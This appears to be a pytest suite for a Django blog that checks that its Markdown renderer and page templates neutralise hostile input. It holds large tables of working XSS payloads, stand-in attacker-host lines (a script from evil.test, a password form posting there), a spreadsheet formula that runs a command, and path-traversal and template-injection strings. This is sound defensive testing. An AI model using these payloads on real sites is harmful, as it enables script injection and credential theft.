"""Texts and values made to break out, judged by a real HTML parser: they come out inert.

The texts go through render(), the values through every public page, the feed and the sitemap.
"""

import re
from datetime import timedelta
from functools import cache
from html import unescape

import html5lib
import pytest
from django.core.exceptions import ValidationError
from django.db import transaction
from django.test import Client
from lxml import etree

from blog.citing import ended
from blog.models import (
    Author,
    Category,
    FAQEntry,
    Image,
    MenuItem,
    Offer,
    Post,
    Redirect,
    Revision,
    SiteSettings,
    Tag,
    TaggedPost,
)
from blog.rendering import UNPRINTABLE, Context, Picture, render, sanitize
from blog.rendering.code import TOKEN_CLASSES
from tests.build import NOON, make_author, make_category, make_post
from tests.test_citing import as_printed, read_bibtex

HTML = "{http://www.w3.org/1999/xhtml}"

TAGS = set(
    """a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h2
    h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section small span strong sub summary sup
    table tbody td tfoot th thead time tr u ul var""".split()
)
ATTRIBUTES = set(
    """alt aria-label cite class colspan datetime decoding dir height href id lang loading open rel
    reversed role rowspan scope src start tabindex title type value width""".split()
)
ADDRESSES = {"href", "src", "cite"}
CLASSES = set(
    """align-left align-center align-right anchor footnote footnote-ref footnote-backref lead
    missing note small table warning wide""".split()
)

CONTROLS = "".join(map(chr, range(0x21)))

TEXTS = {
    # Scripts and what runs them
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a source": "<script src=//evil.test/x.js></script>",
    "script unclosed": "<script>alert(1)//",
    "script within script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script with a tab": "<script\t>alert(1)</script\n>",
    "script in a paragraph": "words <script>alert(1)</script> words",
    "script after a blank line": "<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>",
    "script in a list": "- <script>alert(1)</script>\n- <b onclick=alert(1)>b</b>",
    "script in a quote": "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
    "script in a heading": "## <script>alert(1)</script> <img src=x onerror=alert(1)>",
    "script in a table": "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "script in bold of a list": "- **<script>alert(1)</script><img src=x onerror=alert(1)>** x",
    "script in a definition": "<script>alert(1)</script>\n: <img src=x onerror=alert(1)>",
    "script type module": "<script type=module>import '//evil.test'</script>",
    "json for engines": '<script type="application/ld+json">{"@type":"Thing"}</script>',
    # Handlers
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror in quotes": '<img src="x" onerror="alert(1)">',
    "onerror with a slash": "<img/src=x/onerror=alert(1)>",
    "onerror after a form feed": "<img src=x\x0conerror=alert(1)>",
    "onerror after a null": "<img src=x \x00onerror=alert(1)>",
    "onerror in capitals": "<IMG SRC=x ONERROR=alert(1)>",
    "onerror by backtick": "<img src=`x`onerror=alert(1)>",
    "onload": "<body onload=alert(1)>",
    "onload of svg": "<svg onload=alert(1)>",
    "onclick": '<b onclick="alert(1)">click</b>',
    "onfocus and autofocus": "<input autofocus onfocus=alert(1)>",
    "onfocus and tabindex": "<b tabindex=1 autofocus onfocus=alert(1) id=x>x</b>",
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "onmouseover": "<a href=/ onmouseover=alert(1)>x</a>",
    "onpointerrawupdate": "<p onpointerrawupdate=alert(1)>x</p>",
    "onanimationstart": "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "onstart of marquee": "<marquee onstart=alert(1)>x</marquee>",
    "oncopy": '<p oncopy="alert(1)" oncut="alert(1)">x</p>',
    "handler with an entity": '<b onclick="&#97;lert(1)">x</b>',
    "handler in a quote that does not end": '<b title="x onclick="alert(1)">x</b>',
    "handler behind a broken attribute": '<b "=" onclick="alert(1)">x</b>',
    "handler behind an equals sign": '<b =">" onclick=alert(1)>x</b>',
    "handler in a closing tag": "<b>x</b onclick=alert(1)>",
    # Addresses
    "javascript": "[x](javascript:alert(1))",
    "javascript in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript in angles": "[x](<javascript:alert(1)>)",
    "javascript in HTML": '<a href="javascript:alert(1)">x</a>',
    "javascript by entities": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript by long entities": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript by hex entities": '<a href="&#x6A&#x61;vascript&colon;alert(1)">x</a>',
    "javascript by entities in Markdown": "[x](&#x6a;avascript:alert(1))",
    "javascript with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript with an entity tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "javascript with a new line": '<a href="java&NewLine;script:alert(1)">x</a>',
    "javascript after a space": '<a href=" javascript:alert(1)">x</a>',
    "javascript after a control": '<a href="&#1;javascript:alert(1)">x</a>',
    "javascript after a null": '<a href="\x00javascript:alert(1)">x</a>',
    "javascript with a null within": '<a href="java\x00script:alert(1)">x</a>',
    "javascript with a line separator": '<a href="\u2028javascript:alert(1)">x</a>',
    "javascript with a soft hyphen": '<a href="java\xadscript:alert(1)">x</a>',
    "javascript in wide letters": '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
    "javascript with a wide colon": '<a href="javascript：alert(1)">x</a>',
    "javascript in per cent": '<a href="%6aavascript:alert(1)">x</a>',
    "javascript twice encoded": '<a href="&amp;#106;avascript:alert(1)">x</a>',
    "javascript with a comment": "[x](javascript://www.example.com/%0aalert(1))",
    "javascript behind feed": '<a href="feed:javascript:alert(1)">x</a>',
    "javascript behind view-source": '<a href="view-source:javascript:alert(1)">x</a>',
    "javascript by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript by reference in angles": "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "javascript by reference with a tab": "[x][1]\n\n[1]: java\tscript:alert(1)",
    "javascript as an autolink": "<javascript:alert(1)>",
    "javascript in a picture": "![x](javascript:alert(1))",
    "javascript of a known picture": '<img src="known.png" alt="x" longdesc="javascript:alert(1)">',
    "vbscript": "[x](vbscript:msgbox(1))",
    "vbscript with a space": '<a href="vbscript :msgbox(1)">x</a>',
    "livescript": "[x](livescript:alert(1))",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data in a picture": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "data in HTML": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data in capitals": '<a href="DATA:text/html,x">x</a>',
    "data of a known type": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "blob": "[x](blob:https://www.example.com/1)",
    "file": "[x](file:///etc/passwd)",
    "filesystem": '<a href="filesystem:https://www.example.com/x">x</a>',
    "about": '<a href="about:blank">x</a>',
    "cite with a scheme": (
        '<blockquote cite="javascript:alert(1)"><q cite=" data:x">x</q></blockquote>'
    ),
    "cite of a change": '<del cite="vbscript:x">x</del><ins cite="java\nscript:x">x</ins>',
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "xlink on a plain link": '<a xlink:href="javascript:alert(1)">x</a>',
    "use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "formaction": "<button formaction=javascript:alert(1)>x</button>",
    "formaction on a link": '<a href="/" formaction="javascript:alert(1)">x</a>',
    "action": "<form action=javascript:alert(1)><input type=submit></form>",
    "background": (
        '<table background="javascript:alert(1)"><tr><td background=x>y</td></tr></table>'
    ),
    "poster": "<video poster=javascript:alert(1)></video>",
    "srcset": '<img src=known.png srcset="https://evil.test/x.png 2x" sizes="100vw">',
    "source of a picture": (
        "<picture><source srcset=//evil.test/x.png><img src=known.png></picture>"
    ),
    "ping": '<a href="/" ping="https://evil.test/">x</a>',
    "download": '<a href="/x" download="x.exe">x</a>',
    "target": '<a href="https://evil.test/" target="_blank" rel="opener">x</a>',
    "attributes of a link that fetch": '<a href="/" attributionsrc="//evil.test" hreflang=x>x</a>',
    "lowsrc and dynsrc": "<img src=known.png lowsrc=//evil.test/x dynsrc=javascript:alert(1)>",
    "crossorigin and importance": "<img src=known.png crossorigin fetchpriority=high usemap=#x>",
    # Foreign content and mutation
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg with style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg with a foreign object": (
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"
    ),
    "svg with a description": "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "svg with a title": (
        "<svg></p><title><a id='</title><img src=x onerror=alert(1)>'></title></svg>"
    ),
    "svg with cdata": "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "svg set": '<svg><a><set attributeName=href to="javascript:alert(1)"/>x</a></svg>',
    "math with a link": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</math>'
    ),
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math mutation with a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"
    ),
    "math annotation": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
    ),
    "svg and paragraphs": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "template with a shadow root": (
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)>"
    ),
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "title": "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "style": "<style>@import '//evil.test/x.css';</style>",
    "style that ends early": "<style><a title='</style><img src=x onerror=alert(1)>'></style>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "listing and plaintext": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><plaintext><b>",
    "noembed and noframes": (
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>"
    ),
    "iframe content": "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "select": "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "table rescue": "<table><script>alert(1)</script><img src=x onerror=alert(1)><tr><td>x</table>",
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "image instead of img": "<image src=x onerror=alert(1)>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "custom element": "<x-y onclick=alert(1) is=z>x</x-y>",
    "slot and part": "<slot name=x onslotchange=alert(1)></slot><b slot=x part=y>z</b>",
    # Comments and markup that is broken
    "comment": "<!-- secret --><b>x</b>",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment with a bang": "<!-- --!><img src=x onerror=alert(1)>-->",
    "comment in a comment": "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "bogus comment": "</ <img src=x onerror=alert(1)>><!x><img src=x onerror=alert(1)>",
    "tag that does not end": "<img src=x onerror=alert(1)",
    "tag that ends in the next line": "<img\nsrc=x\nonerror=alert(1)\n>",
    "many smaller-than": "<<<<img src=x onerror=alert(1)>>>>",
    "smaller-than as an entity": (
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;"
    ),
    "entity without a semicolon": "&ltscript&gtalert(1)&lt/script&gt",
    "wide angle brackets": "＜script＞alert(1)＜/script＞ ‹img src=x onerror=alert(1)›",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong text": "\xc0\xbcscript\xc0\xbe ¼script¾alert(1)¼/script¾",
    "null in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt><im\x00g src=x onerror=alert(1)>",
    "controls everywhere": "\x01<\x02b\x03>\x04x\x05</\x06b>\x0b\x0c\x0e\x1f\x7f\ufffe\uffff",
    "right to left": (
        "\u202e<img src=x onerror=alert(1)>\u202c \u2066[x](javascript:alert(1))\u2069"
    ),
    "zero width": "<\u200bscript>alert(1)</\u200bscript>[x](java\u200bscript:alert(1))",
    "byte order mark": "\ufeff<script>alert(1)</script>",
    "quotes nested": '<b title="\'><img src=x onerror=alert(1)>">x</b>',
    "quotes nested the other way": "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
    "quotes by entities": '<b title="&quot;><img src=x onerror=alert(1)>">x</b>',
    "placeholders of the parser": (
        "\x02wzxhzdk:0\x03 \x02klzzwxh:0\x03 <img src=x onerror=alert(1)>"
    ),
    "placeholder in an address": "[x](\x02wzxhzdk:0\x03javascript:alert(1)) <script>1</script>",
    # Styles, heads and frames
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style that covers the page": '<div style="position:fixed;inset:0;z-index:9">x</div>',
    "expression": '<p style="width:expression(alert(1))">x</p>',
    "classes of the site": '<p class="masthead skip admin note">x</p>',
    "link": "<link rel=stylesheet href=//evil.test/x.css>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.test">',
    "base": "<base href=//evil.test/>",
    "form": "<form action=//evil.test><input name=password type=password><button>x</button></form>",
    "iframe": "<iframe src=//evil.test></iframe>",
    "iframe with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=javascript:alert(1) type=text/html></object>",
    "embed": "<embed src=//evil.test/x.swf>",
    "applet": "<applet code=x archive=//evil.test/x.jar></applet>",
    "portal and fenced frame": "<portal src=//evil.test></portal><fencedframe src=//evil.test>",
    "audio and video": "<audio src=x onerror=alert(1)><video><source onerror=alert(1)></video>",
    "dialog and popover": "<dialog open>x</dialog><b popover id=y popovertarget=y>z</b>",
    "html and body": (
        "<html manifest=x><head><script>1</script></head><body bgcolor=red>x</body></html>"
    ),
    "contenteditable": "<p contenteditable draggable=true accesskey=x inert hidden nonce=1>x</p>",
    # Ids and names
    "clobbering": (
        '<a id="cookie" name="body">x</a><img id=getElementById name=forms src=known.png>'
    ),
    "clobbering a form": "<form id=x><input name=attributes><input name=parentNode></form>",
    "the site's own ids": '<p id="_main">x</p><p id="_questions">y</p><a name=_main>z</a>',
    "an id twice": '<p id=x>1</p>\n\n<p id="x">2</p>\n\n## x\n\n## x {#x}',
    "ids with markup": '<p id="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
    "microdata": '<p itemscope itemtype="https://schema.org/Review" itemprop=name>x</p>',
    # Markdown's own extensions
    "attribute list with a handler": "words\n{: onclick=alert(1) style=x #a .note }",
    "attribute list with quotes": (
        "## x {onclick=\"alert('1')\" title='\"><img src=x onerror=alert(1)>'}"
    ),
    "attribute list on a link": (
        "[x](/y){: href=javascript:alert(1) onclick=alert(1) target=_blank }"
    ),
    "attribute list on a picture": "![x](known.png){: src=javascript:alert(1) onerror=alert(1) }",
    "attribute list without a value": "## x { onclick srcdoc #y .z a=b }",
    "attribute list with a tag": "*x*{: <script>=1 a<b=2 }",
    "attribute list on a list": "- x\n{: onclick=alert(1) }\n- y {: style=x }",
    "title of a link": '[x](/y "\\"><img src=x onerror=alert(1)>")',
    "title of a link by entities": '[x](/y "&quot; onmouseover=alert(1) x=&quot;")',
    "title of a reference": "[x][1]\n\n[1]: /y '\"><img src=x onerror=alert(1)>'",
    "quote in an address": '[x](/y"onmouseover="alert(1))',
    "quote in an autolink": '<https://www.example.com/"onmouseover="alert(1)>',
    "autolink by mail": "<x@evil.test?subject=<script>alert(1)</script>>",
    "mail with markup": '<"onclick=alert(1)"@evil.test>',
    "alt text": '![" onerror="alert(1)](known.png)',
    "alt text with a tag": "![<img src=x onerror=alert(1)>](known.png) ![</a><script>](gone.png)",
    "alt text of a far picture": '![<script>alert(1)</script>](https://evil.test/x.png "t")',
    "picture in a link": "[![x](https://evil.test/x.png)](javascript:alert(1))",
    "link in a link": (
        "[a [b](javascript:alert(1)) c](/d) <a href=/e><a href=javascript:alert(1)>f</a></a>"
    ),
    "footnote name": 'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y',
    "footnote with a script": "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    "footnote that is not ours": '<a href="#fn:x" class="footnote-ref" onclick=alert(1)>1</a>',
    "abbreviation": 'HTML\n\n*[HTML]: "><img src=x onerror=alert(1)>',
    "abbreviation of a tag": (
        "img script\n\n*[img]: x\n*[script]: y\n\n<img src=x> <script>1</script>"
    ),
    "abbreviation of nothing much": "a b\n\n*[a]: '\" onclick=alert(1) x='\n*[b]: <b>",
    "language of code": '```"><img src=x onerror=alert(1)>\nx\n```',
    "language with a class": (
        "```html masthead\nx\n```\n\n~~~ {.python .masthead onclick=1 style=x}\nx\n~~~"
    ),
    "language with quotes": (
        '~~~ {.a"b onclick=\'alert(1)\' hl_lines="1"}\n</code><script>1</script>\n~~~'
    ),
    "code that ends early": (
        "`</code><script>alert(1)</script>`\n\n    </code></pre><img src=x onerror=alert(1)>"
    ),
    "markdown within HTML": '<div markdown="1">\n\n[x](javascript:alert(1))\n\n</div>',
    "half a tag around Markdown": '<b title="*x*>" [x](javascript:alert(1)) <b>"*',
    "emphasis in a tag": "<a href='java*script*:alert(1)'>x</a> <im*g src=x onerror=alert(1)*>",
    "backslashes": (
        "\\<script>alert(1)\\</script> [x](\\javascript:alert(1)) \\[x](javascript:alert(1))"
    ),
    "code in an address": "[x](`javascript:alert(1)`) [`x`](javascript:alert(1))",
}


def evils_in(html, fragment=True):
    """Yield what must not stand in a text's HTML, as a browser would read it."""
    parse = html5lib.parseFragment if fragment else html5lib.parse
    for node in parse(html, treebuilder="etree").iter():
        if not isinstance(node.tag, str):
            yield f"comment {node.text!r}"
            continue
        if node.tag == "DOCUMENT_FRAGMENT":
            continue
        tag = node.tag.removeprefix(HTML)
        if tag not in TAGS:
            yield f"<{tag}>"
        for name, value in node.items():
            yield from evils_of(tag, str(name), value)


def evils_of(tag, name, value):
    if name not in ATTRIBUTES:
        yield f"{name} on <{tag}>"
    if name in ADDRESSES and scheme_of(value) not in {"", "http", "https", "mailto", "tel"}:
        yield f"{name}={value!r} on <{tag}>"
    if name == "src" and value != "/media/pictures/known.png":
        yield f"{name}={value!r} on <{tag}>"
    if name == "class":
        for word in set(value.split()) - CLASSES - (TOKEN_CLASSES if tag == "span" else set()):
            if not (tag == "code" and word.startswith("language-")):
                yield f"class {word!r} on <{tag}>"
    if name == "id" and not value[:1].isalnum():
        yield f"id={value!r}"


def scheme_of(address):
    """The scheme as a browser finds it (WHATWG URL: leading controls, tabs and line ends go)."""
    squeezed = re.sub(r"[\t\r\n]", "", address.lstrip(CONTROLS))
    found = re.match(r"([a-z][a-z0-9+.-]*):", squeezed, re.IGNORECASE)
    return found[1].lower() if found else ""


CONTEXT = Context(
    name="a-post",
    hosts=("www.example.com",),
    pictures={"known.png": Picture("/media/pictures/known.png", 40, 30)},
)


@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_text_comes_out_inert(name):
    html = render(TEXTS[name], CONTEXT).html
    assert list(evils_in(html)) == []


def test_sanitising_alone_is_enough():
    # blog.rendering.tidy changes these; those of <picture> are its own: prune() drops a text's.
    left_to_others = ("src=", "name on <a>", "<h1>", "<picture>", "<source>", "sizes on")
    for text in TEXTS.values():
        evils = evils_in(sanitize(text))
        assert [evil for evil in evils if not evil.startswith(left_to_others)] == [], text


@pytest.mark.parametrize("wrapping", ["> - {}", "[**{}**](/x)", "<div>{}</div>"])
def test_a_hostile_text_comes_out_inert_within_others(wrapping):
    for text in TEXTS.values():
        html = render(wrapping.format(text), CONTEXT).html
        assert list(evils_in(html)) == [], text


def test_all_hostile_texts_in_one_come_out_inert():
    html = render("\n\n".join(TEXTS.values()), CONTEXT).html
    assert list(evils_in(html)) == []


def test_an_id_stands_once_whatever_the_text_says():
    for text in TEXTS.values():
        ids = re.findall(r' id="([^"]*)"', render(text, CONTEXT).html)
        assert len(ids) == len(set(ids)), text


def test_the_table_is_long_enough():
    assert len(TEXTS) >= 120


# Field values: titles, names, tags, questions … are plain text, and stay it on every page.

VALUES = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</h1></header></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "x onclick=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template></noscript></iframe><b>",
    "<!-- --><b>x</b>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<b>x</b>]]>",
    "]]>",
    "<?xml version='1.0'?><?php x ?>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&ltscript&gtalert(1)",
    "&unknown; & &amp; &&",
    "AT&T <3 R&D > all",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "**bold** _stress_ `code` # heading",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}{% include 'x' %}{{ 1|add:1 }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %(name)s {0} {name}",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3e \\074script",
    '\\"; alert(1); //',
    "</a></li></ul></nav>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a/href=//evil.test>x",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.test>",
    "<iframe srcdoc='<script>1</script>'>",
    "<form action=//evil.test><input>",
    "<plaintext>",
    "<xmp><listing><noembed>",
    "<select><option>",
    "<table><tr><td>",
    "<body onload=alert(1)><html x>",
    "<item><title>x</title></item>",
    "<url><loc>https://evil.test/</loc></url>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-",
    "\u202egnp.exe \u2066x\u2069",
    "\u2028\u2029 line ends",
    "\u200b\ufeff zero width",
    "e\u0301\u0301\u0301\u0301 stacked",
    "\u0085 \u00a0 \u00ad blanks",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "//evil.test/x",
    "https://evil.test/?a=b&c=<d>",
    "a" * 55,
    "🙂 👩‍👩‍👧 emoji",
]
PLAIN = ["plain words"] * 7
LISTS = ["/", "/blog", "/guides", "/no-such-page", "/rss.xml", "/sitemap.xml", "/robots.txt"]
LISTS += ["/search", "/search?q=three", "/services", "/archive", "/feeds"]


def by(n, items):
    return [items[start : start + n] for start in range(0, len(items), n)]


KINDS = [Post.Kind.POST] * 4 + [Post.Kind.GUIDE, Post.Kind.SERVICE, Post.Kind.PAGE]


def make_world(n, value):
    """A post with everything that hangs on it, each text field filled with the value."""
    image = Image.objects.create(
        file=f"pictures/{n}.png", source=f"/{n}.png", alt=value, width=4, height=3, sha256=f"{n}"
    )
    author = make_author(f"author-{n}", name=value, role=value, bio="Words.", photo=image)
    post = make_post(
        f"post-{n}",
        kind=KINDS[n],
        title=value,
        seo_title=value if n % 2 else "",
        description=value,
        body="## One\n\nWords.\n\n## Two\n\nWords.\n\n## Three\n\nWords.",
        category=make_category(f"topic-{n}", name=value, description="Words.", order=n),
        authors=[author],
        image=image,
        image_alt=value if n % 3 else "",
        faq=True,
        next_step=Post.objects.first(),
        next_step_text=value if n % 2 else "",
        date_published=NOON + timedelta(hours=n),
        date_modified=NOON + timedelta(days=2),
    )
    Revision.objects.create(
        post=post,
        number=1,
        kind=Revision.Kind.PUBLISHED,
        substantive=True,
        note=value,
        snapshot={},
        at=NOON + timedelta(days=2),
    )
    tag = Tag.objects.create(name=value, slug=f"tag-{n}")
    TaggedPost.objects.create(content_object=post, tag=tag)
    FAQEntry.objects.create(post=post, question=value, answer="Words.")
    MenuItem.objects.create(label=value, target="/blog")
    if post.kind == Post.Kind.SERVICE:
        Offer.objects.create(post=post, price_from=990, scope_note=value)
    return [post.path, f"/topics/topic-{n}", f"/tags/tag-{n}", f"/authors/author-{n}"]


def pages_of(values):
    """Return {address: content} of all pages of a site where these values stand; then undo it."""
    client, pages = Client(), {}
    with transaction.atomic():
        for n, value in enumerate(values):
            addresses = make_world(n, f"{value} {n}")
            SiteSettings.objects.update_or_create(
                pk=1, defaults={"name": f"{value} {n}", "description": value}
            )
            pages |= {address: client.get(address).content.decode() for address in addresses}
        for address in LISTS:
            pages[address] = client.get(address).content.decode()
        transaction.set_rollback(True)
    return pages


@cache
def plain_skeletons():
    return {path: skeleton(parsed(page)) for path, page in pages_of(PLAIN).items()}


def parsed(page):
    if page.startswith("<?xml"):
        return etree.fromstring(page.encode(), etree.XMLParser(resolve_entities=False))
    return html5lib.parse(page, treebuilder="etree")


def skeleton(root):
    """Return the page without its words: [(depth, element, names of attributes)]."""
    found = []

    def walk(node, depth):
        tag = node.tag if isinstance(node.tag, str) else "comment"
        found.append((depth, tag, sorted(map(str, node.keys()))))
        for child in node:
            walk(child, depth + 1)

    walk(root, 0)
    return found


@pytest.mark.django_db
@pytest.mark.parametrize("values", by(7, VALUES), ids=lambda values: values[0][:20])
def test_hostile_values_are_words_and_nothing_else_on_every_page(values):
    for address, content in pages_of(values).items():
        page = parsed(content)
        assert skeleton(page) == plain_skeletons()[address], address
        if number := re.search(r"/post-(\d)$", address):
            check_words(page, f"{values[int(number[1])]} {number[1]}")
        if address == "/rss.xml":
            articles = [f"{value} {n}" for n, value in enumerate(values) if n < 5]
            for element in ("title", "category"):
                assert set(articles) <= set(page.xpath(f"//item/{element}/text()"))
            summaries = page.xpath("//item/description/text()")
            assert set(articles) <= {unescape(summary) for summary in summaries}


def check_words(page, value):
    """The value stands, as it was written, wherever the page of a post shows it."""
    assert "".join(page.find(f".//{HTML}h1").itertext()) == value
    assert value in page.find(f".//{HTML}title").text
    assert value in ["".join(h.itertext()).removesuffix(" #") for h in page.iter(f"{HTML}h3")]
    metas = {meta.get("property"): meta.get("content") for meta in page.iter(f"{HTML}meta")}
    elements = {element.get("id"): element for element in page.iter()}
    if "_cite-text" in elements:
        folded = " ".join(value.split())
        assert f'"{ended(folded)}"' in elements["_cite-text"].text
        sections = {each.get("aria-labelledby"): each for each in page.iter(f"{HTML}section")}
        (note,) = sections["_changes"].iter(f"{HTML}li")
        assert note[-1].text == value
    assert metas["og:title"] == metas["og:description"] == metas["og:image:alt"] == value


@pytest.mark.django_db
@pytest.mark.parametrize("value", VALUES)
def test_a_hostile_value_stays_within_its_field_of_bibtex(client, value):
    SiteSettings(pk=1, name=value).save()
    authors = [make_author("one", name=value), make_author("two", name=value)]
    make_post("a-post", title=value, authors=authors)
    answer = client.get("/blog/a-post.bib")
    fields = read_bibtex(answer.content.decode())
    assert set(fields) == {*"key author title howpublished year month day url".split()}
    assert as_printed(fields["title"]) == " ".join(value.split())
    assert answer["X-Content-Type-Options"] == "nosniff"


def without_texts(root):
    """Return the page's skeleton without what Markdown fields gave it."""
    for node in list(root.iter()):
        node[:] = [child for child in node if child.get("class") != "contents"]
        if "prose" in node.get("class", "").split():
            node[:] = []
    return skeleton(root)


@pytest.mark.django_db
def test_hostile_texts_leave_the_pages_around_them_whole(client):
    SiteSettings(pk=1, intro="Words.").save()
    category, author = make_category(description="Words."), make_author(bio="Words.")
    post = make_post(body="Words.", faq=True, category=category, authors=[author])
    entry = FAQEntry.objects.create(post=post, question="Why?", answer="Words.")
    addresses = ["/", post.path, category.get_absolute_url(), author.get_absolute_url()]

    def skeletons():
        pages = {address: client.get(address).content.decode() for address in addresses}
        return {address: without_texts(parsed(page)) for address, page in pages.items()}

    plain = skeletons()
    for text in [*list(TEXTS.values())[::9], "\n\n".join(TEXTS.values())]:
        text = UNPRINTABLE.sub("", f"Words.\n\n{text}")  # PostgreSQL could not hold it
        SiteSettings(pk=1, intro=text).save()
        category.description = author.bio = post.body = entry.answer = text
        for row in (category, author, post, entry):
            row.save()
        assert skeletons() == plain, text
        feed = parsed(client.get("/rss.xml").content.decode())
        (content,) = feed.xpath("//item/*[local-name() = 'encoded']/text()")
        assert list(evils_in(content)) == [], text


@pytest.mark.django_db
def test_an_address_of_an_author_that_is_none_is_not_linked(client):
    good, *bad = "https://example.org/ada", "javascript:alert(1)", "data:text/html,x", "//[x", "x"
    make_post(authors=[make_author(same_as=[good, *bad])])
    page = html5lib.parse(client.get("/authors/ada-brandt").content, treebuilder="etree")
    hrefs = {a.get("href") for a in page.iter(f"{HTML}a")}
    assert good in hrefs
    assert not hrefs & set(bad)


# What does not get in


ADDRESS_FIELDS = {
    "menu": lambda address: MenuItem(label="x", target=address),
    "redirect": lambda address: Redirect(from_path="/old", to_url=address),
    "canonical": lambda address: Post(slug="x", title="x", canonical_url=address),
    "author": lambda address: Author(slug="x", name="x", same_as=[address]),
}


@pytest.mark.django_db
@pytest.mark.parametrize("field", ADDRESS_FIELDS)
@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
